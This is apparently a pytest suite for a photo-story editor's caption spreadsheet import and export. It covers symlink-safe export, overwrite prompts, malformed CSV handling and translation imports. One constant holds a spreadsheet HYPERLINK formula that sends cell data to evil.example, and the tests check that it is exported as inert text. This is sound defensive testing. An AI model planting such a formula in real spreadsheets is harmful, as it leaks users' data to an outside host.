"""Captions sheets in the editor: export never replaces the story or a photo, a malformed
sheet changes nothing, short rows keep what they do not reach, formulas stay text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from photostory.core.storyfile import save_story
from ui_support import story_with_photos

FORMULA = '=HYPERLINK("https://evil.example/?d="&B3,"Click for the full caption")'


@pytest.fixture
def opened(window, tmp_path: Path) -> Path:
    """A saved story of three photos, open in the editor; returns the story file."""
    story = story_with_photos(tmp_path / "photos", 3)
    story.photos[0].caption = FORMULA
    story.photos[1].caption, story.photos[1].credit, story.photos[1].alt = "Old", "Reuters", "Bus"
    path = tmp_path / "story.photostory"
    save_story(story, path)
    assert window.files.open_story(path, ask=False)
    return path


def fields(window) -> list[tuple[str, str, str]]:
    return [(p.caption, p.credit, p.alt) for p in window.document.story.photos]


def export_to(window, scripted, path: Path) -> None:
    scripted.files.append(path)
    window.act_export_captions.trigger()


@pytest.mark.parametrize("what", ["story", "photo"])
def test_export_through_a_link_never_replaces_the_story_or_a_photo(window, opened, scripted,
                                                                   tmp_path, what):
    """The save dialog asked "Replace captions.csv?" about the link; writing went to the
    story file (or a photo) behind it."""
    target = opened if what == "story" else window.document.story.photos[1].path
    before = target.read_bytes()
    link = tmp_path / "captions.csv"
    link.symlink_to(target)
    export_to(window, scripted, link)
    assert len(scripted.errors) == 1
    assert scripted.errors[0].startswith("captions.csv: is " + (
        "the story file;" if what == "story" else "one of the story's photos (photo-001.jpg);"))
    assert target.read_bytes() == before and link.is_symlink()


def test_export_over_a_sheet_the_dialog_asked_about_replaces_it(window, opened, scripted, tmp_path):
    old = tmp_path / "captions.csv"
    old.write_text("file,caption\nold,sheet\n", encoding="utf-8")
    export_to(window, scripted, old)
    assert scripted.errors == [] and scripted.questions == []
    assert "photos/photo-001.jpg,Old,Reuters,Bus" in old.read_text(encoding="utf-8-sig")


def test_export_asks_before_replacing_the_file_named_with_csv_added(window, opened, scripted,
                                                                    tmp_path):
    """Typed "notes": the dialog asked about "notes", and "notes.csv" was replaced unasked."""
    notes = tmp_path / "notes.csv"
    notes.write_bytes(b"the desk's own notes")
    scripted.confirm_answer = False
    export_to(window, scripted, tmp_path / "notes")
    assert len(scripted.questions) == 1 and "notes.csv" in scripted.questions[0]
    assert notes.read_bytes() == b"the desk's own notes"
    scripted.confirm_answer = True
    export_to(window, scripted, tmp_path / "notes")
    assert notes.read_text(encoding="utf-8-sig").startswith("file,caption,credit,alt")


def test_exported_formula_is_text_and_comes_back_exactly(window, opened, scripted, tmp_path):
    sheet = tmp_path / "captions.csv"
    export_to(window, scripted, sheet)
    cells = list(csv.reader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"), newline="")))
    assert cells[1][1] == "'" + FORMULA
    before = fields(window)
    scripted.files.append(sheet)
    window.act_import_captions.trigger()
    assert fields(window) == before
    assert window.document.undo_stack.count() == 0
    assert window.status.message.text().strip() == "captions.csv changed nothing: the captions already match."


def test_a_sheet_with_a_quote_never_closed_changes_nothing(window, opened, scripted, tmp_path):
    sheet = tmp_path / "captions.csv"
    sheet.write_text("file,caption,credit,alt\r\n"
                     "photo-000.jpg,First,AP,One\r\n"
                     "photo-001.jpg,\"Never closed,AFP,Two\r\n"
                     "photo-002.jpg,Third,AFP,Three\r\n", encoding="utf-8")
    before = fields(window)
    scripted.files.append(sheet)
    window.act_import_captions.trigger()
    assert len(scripted.errors) == 1
    assert scripted.errors[0].startswith("captions.csv line 3: a quoted cell is never closed.")
    assert fields(window) == before and window.document.undo_stack.count() == 0


def test_a_short_row_keeps_credit_and_alt(window, opened, scripted, tmp_path):
    sheet = tmp_path / "captions.csv"
    sheet.write_text("file,caption,credit,alt\nphoto-001.jpg,New caption\n", encoding="utf-8")
    scripted.files.append(sheet)
    window.act_import_captions.trigger()
    assert fields(window)[1] == ("New caption", "Reuters", "Bus")


def test_a_sheet_fills_a_language_version_in_one_undo_step(window, tmp_path: Path) -> None:
    from photostory.core.story import Translation

    story = story_with_photos(tmp_path / "photos", 2)
    story.language = "kk"
    story.translations.append(Translation("ru"))
    path = tmp_path / "story.photostory"
    save_story(story, path)
    assert window.files.open_story(path, ask=False)
    sheet = tmp_path / "ru.csv"
    sheet.write_text("file,caption,caption:ru\nphoto-000.jpg,Автобус,Автобус на заводе\n",
                     encoding="utf-8")
    assert window.story_actions.import_captions(sheet)
    opened = window.document.story
    first = opened.photos[0].id
    assert opened.photos[0].caption == "Автобус"
    assert opened.translation("ru").captions[first] == "Автобус на заводе"
    window.document.undo_stack.undo()
    assert opened.photos[0].caption == "" and not opened.translation("ru").captions.get(first)


def test_a_column_for_a_version_the_story_lacks_refuses_the_sheet(window, opened, scripted,
                                                                  tmp_path: Path) -> None:
    before = fields(window)
    sheet = tmp_path / "ru.csv"
    sheet.write_text("file,caption:ru\nphoto-001.jpg,Автобус\n", encoding="utf-8")
    assert not window.story_actions.import_captions(sheet)
    assert len(scripted.errors) == 1 and "ru" in scripted.errors[0]
    assert fields(window) == before
